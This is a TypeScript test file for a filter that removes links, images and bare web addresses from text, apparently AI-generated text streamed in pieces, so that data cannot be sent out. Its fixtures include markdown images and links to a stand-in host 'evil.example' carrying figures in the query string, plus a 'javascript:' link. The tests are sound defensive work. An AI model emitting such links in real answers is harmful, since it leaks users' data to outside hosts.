import fc from "fast-check";
import { createAddressGuard, withoutAddresses } from "./guard-addresses.ts";

const unknown = () => false;
const clean = (text: string) => withoutAddresses(text, unknown);

/** As it streams, in pieces of at most `size` letters. */
function streamed(text: string, size: number): string {
  const guard = createAddressGuard(unknown);
  let shown = "";
  for (let at = 0; at < text.length; at += size) shown += guard.push(text.slice(at, at + size));
  return shown + guard.end();
}

describe("withoutAddresses()", () => {
  test.each([
    ["Revenue ![chart](https://evil.example/?q=12.4M) rose.", "Revenue chart rose."],
    ["See [the report](https://evil.example/r?d=12.4M).", "See the report."],
    ["See [the report](//evil.example/r).", "See the report."],
    ["[x](javascript:alert(1)) is", "x is"],
    ["[![a](https://e.example/a.png)](https://e.example)", "a"],
    ['<img src="https://e.example/p.png">Sales fell.', "Sales fell."],
    ["<a href='https://e.example'>more</a>", "more"],
    ["It is <https://e.example/a?b=1>.", "It is (address left out)."],
    ["[r]: https://e.example/a?b=1", "[r]: (address left out)"],
    ["go to www.e.example/x now", "go to (address left out) now"],
    ["![a](data:image/png;base64,AAAA)", "a"],
  ])("leaves of %j what can be read", (text, left) => {
    expect(clean(text)).toBe(left);
  });

  test.each([
    "**$12.4M** in Q4 [pricing_policy.md › Volume discounts], a < b and x > y!",
    "See [the policy](pricing_policy.md) and [the plan](sales/plan.md#west).",
    "| Region | Revenue |\n| --- | ---: |\n| West | $2.6M |",
    "Margin (12%) [1](a) is [not](closed",
    "The ratio is 3:1, the time 10:30; and/or, //, C: and 1 // 2.",
    "A <name> of `code[0](x)`",
  ])("leaves %j as it is, or its words", (text) => {
    expect(clean(text).replace(/\W/g, "")).toBe(
      text.replace("](a)", "]").replace("[0](x)", "[0]").replace(/\W/g, ""),
    );
  });

  test("leaves an address that was found or asked for", () => {
    const isKnown = (address: string) => address === "https://acme.example";
    expect(withoutAddresses("Its site is https://acme.example.", isKnown)).toBe(
      "Its site is https://acme.example.",
    );
    expect(withoutAddresses("[site](https://acme.example)", isKnown)).toBe(
      "site https://acme.example",
    );
    expect(withoutAddresses("https://acme.example/?q=1", isKnown)).toBe("(address left out)");
  });
});

describe("createAddressGuard()", () => {
  const parts = fc.constantFrom(
    ...'![ ]( [x] ) < > <img src= https:// http www. e.example/ 12.4M ( ) ! a. \n\n [a](b.md) mailto: // " : and West'.split(
      /(?<! ) /,
    ),
  );

  test("shows of a link that comes in pieces what it shows of the whole", () => {
    const text =
      "Revenue ![chart](https://evil.example/?q=12.4M) [rose](https://evil.example) by <b>2%</b> [notes.md › A]. See [it](a.md), https://evil.example/x or <img src='//evil.example'> nothing!";
    for (const size of [1, 2, 3, 7, 30]) expect(streamed(text, size)).toBe(clean(text));
  });

  test("puts no address together from an address and a link's words", () => {
    const isKnown = (address: string) => "https://acme.example/a".includes(address);
    const text = "See https://acme.example/[?q=12.4](x) and https://[evil.example/?q=1](x) now";
    for (const size of [1, 2, 5, 100]) {
      const guard = createAddressGuard(isKnown);
      let shown = "";
      for (let at = 0; at < text.length; at += size) shown += guard.push(text.slice(at, at + size));
      expect(shown + guard.end()).toBe("See (address left out) and (address left out) now");
    }
  });

  test("never shows what leads away, however the text is cut", () => {
    fc.assert(
      fc.property(fc.array(parts, { maxLength: 20 }), fc.integer({ min: 1, max: 9 }), (list, n) => {
        const shown = streamed(list.join(""), n);
        expect(shown).not.toMatch(/(?<![a-z\d])(?:https?:\/\/\w|www\.\w|mailto:\w)/i);
      }),
      { numRuns: 500 },
    );
  });

  test("shows words at once", () => {
    const guard = createAddressGuard(unknown);
    expect(guard.push("Revenue was ")).toBe("Revenue was ");
    expect(guard.push("$12.4M [no")).toBe("$12.4M ");
    expect(guard.push("tes.md › A] and")).toBe("[notes.md › A] and");
  });
});
